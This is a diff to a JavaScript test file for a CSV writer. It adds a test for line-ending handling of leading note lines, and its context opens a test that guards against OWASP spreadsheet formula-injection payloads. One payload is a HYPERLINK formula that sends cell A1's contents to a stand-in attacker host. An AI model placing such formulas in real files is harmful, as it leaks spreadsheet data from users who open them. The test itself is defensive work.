@@ -29,6 +29,19 @@ describe('toCsv (the one CSV writer)', () => {
     expect(toCsv([]).split('\n')[0]).toBe(`# ${PURPOSE_LABEL}`);
   });
 
+  it('finds the notes whatever ends the lines: LF, CRLF or a lone CR (Excel for Mac)', () => {
+    const lf = toCsv([{ a: 1, b: 'x' }], { notes: ['kind: test', 'with, a comma'] });
+    for (const eol of ['\n', '\r\n', '\r']) {
+      const csv = lf.replaceAll('\n', eol);
+      // With a lone CR the notes ran to the end of the text: the whole file was skipped.
+      expect(leadingNotes(csv)).toEqual({ lines: 3, end: csv.indexOf('a,b') });
+      expect(parse(csv)).toEqual([
+        ['a', 'b'],
+        ['1', 'x'],
+      ]);
+    }
+  });
+
   it('guards the formula payloads of the OWASP list and leaves numbers as numbers', () => {
     const payloads = [
       '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
